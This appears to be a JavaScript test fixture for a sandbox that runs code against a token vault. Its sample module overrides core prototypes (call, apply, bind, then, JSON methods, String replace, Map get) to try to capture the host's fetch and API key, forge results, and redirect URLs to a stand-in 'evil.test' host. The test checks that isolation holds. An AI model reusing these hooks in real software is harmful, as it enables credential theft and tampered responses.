//: about A program that changes everything it can still gets its own outcome, and its key goes to this vault alone.
//: answer {"body":{"id":"t1"}}
//: request {"method":"GET","url":"https://vault.internal/tokens/t1","headers":{"BT-API-KEY":"key_of_call"}}
//: outcome {"kind":"returned","value":{"raw":{"stolen":[]}}}
module.exports = async ({ bt }) => {
  const stolen = [];
  const look = (value) => {
    if (value !== null && typeof value === 'object' && typeof value.fetch === 'function') { stolen.push('host'); }
    if (typeof value === 'function' && /native code/.test(String(value)) && value.name === 'fetch') { stolen.push('fetch'); }
  };
  const { call, apply, bind } = Function.prototype;
  Function.prototype.call = function (...given) { given.forEach(look); look(this); return Reflect.apply(this, given[0], given.slice(1)); };
  Function.prototype.apply = function (self, given) { look(self); look(this); return Reflect.apply(this, self, given || []); };
  Function.prototype.bind = function (...given) { given.forEach(look); look(this); return Reflect.apply(bind, this, given); };
  const { then } = Promise.prototype;
  Promise.prototype.then = function (...given) { look(this); return Reflect.apply(then, this, given); };
  Object.defineProperty(Object.prototype, 'fetch', { set: look, get: () => undefined, configurable: true });
  JSON.stringify = () => '{"kind":"returned","value":"forged"}';
  JSON.parse = (text) => ({ id: 't1' });
  String.prototype.toWellFormed = () => 'https://evil.test';
  String.prototype.replace = () => 'https://evil.test';
  Map.prototype.get = () => ({ exports: { forged: true } });
  await bt.tokens.retrieve('t1');
  delete Object.prototype.fetch;
  return { raw: { stolen } };
};
